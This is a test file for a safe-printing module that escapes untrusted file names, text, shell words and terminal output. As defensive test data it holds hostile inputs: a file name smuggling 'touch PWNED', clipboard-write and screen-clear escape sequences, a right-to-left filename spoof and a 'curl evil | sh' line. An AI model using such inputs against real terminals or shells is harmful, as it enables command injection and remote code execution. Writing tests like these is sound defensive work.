import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import {
  isPrintableName,
  prefixedLines,
  printableLine,
  printableName,
  printableText,
  shellWord,
  TerminalFilter,
} from './safe-print.js';

const hostile = 'n\ntouch PWNED;#';

describe('printing what others chose', () => {
  it('a name with a control or format character is shown escaped and quoted; a plain one as itself', () => {
    expect(printableName('src/a b.ts')).toBe('src/a b.ts');
    expect(printableName(hostile)).toBe('"n\\ntouch PWNED;#"');
    expect(printableName('a\u001b]52;c;cHduZWQ=\u0007b')).toBe('"a\\e]52;c;cHduZWQ=\\x07b"');
    expect(printableName('evil\u202etxt.exe')).toBe('"evil\\u202etxt.exe"');
    expect(printableName('say "hi"\t')).toBe('"say \\"hi\\"\\t"');
    expect(isPrintableName('ünïcödé/名前.txt')).toBe(true);
  });

  it('text keeps its lines and tabs, and nothing else raw', () => {
    expect(printableText('a\tb\nc\u001b[2Jd\u0007\r')).toBe('a\tb\nc\\e[2Jd\\x07\\r');
  });

  it('every shell word reads back exactly as given, and none holds a raw control character', () => {
    for (const word of [
      'plain/path.txt',
      "it's here",
      'a b $(x) `y` ;|&',
      hostile,
      'tab\there',
      'back\\slash\n',
      '\u202eRLO',
    ]) {
      const quoted = shellWord(word);
      expect(isPrintableName(quoted), quoted).toBe(true);
      const back = execFileSync('/bin/sh', ['-c', `printf '%s' ${quoted}`], { encoding: 'utf8' });
      // $(...) drops trailing newlines: the one thing a printf word cannot carry.
      expect(back).toBe(word.replace(/\n+$/, ''));
    }
    expect(shellWord('plain/path.txt')).toBe('plain/path.txt');
    expect(shellWord("it's")).toBe("'it'\\''s'");
  });

  it('check output keeps colours and progress lines; other escape sequences go, even split across chunks', () => {
    const filter = new TerminalFilter();
    const out =
      filter.push('\u001b[31mred\u001b[0m ok\r\n\u001b]52;c;cHduZWQ=\u0007clip \u001b]0;ti') +
      filter.push('tle\u0007 bell\u0007 \u001b[') +
      filter.push('2J clear') +
      filter.end();
    expect(out).toBe('\u001b[31mred\u001b[0m ok\r\nclip  bell\\x07  clear');
  });

  it('a line stays one line: newline, CR and escape sequences shown escaped, tabs kept', () => {
    const line = printableLine('a\nReviewed-by: M <m@x>\r\n\u001b]52;c;eA==\u0007\tend');
    expect(line).toBe('a\\nReviewed-by: M <m@x>\\r\\n\\e]52;c;eA==\\x07\tend');
    expect(['\n', '\r', '\u001b', '\u0007'].some((c) => line.includes(c))).toBe(false);
    expect(printableLine('x\u0085y\u2028z')).toBe('x\\x85y\\u2028z');
  });

  it("someone's prose is printed line by line behind a prefix: none of its lines is one of splintercat's", () => {
    expect(prefixedLines('gave up.\nThen:\r\n  curl evil | sh\n\n\u001b[2J', '  model: ')).toEqual([
      '  model: gave up.',
      '  model: Then:',
      '  model:   curl evil | sh',
      '  model: \\e[2J',
    ]);
  });
});
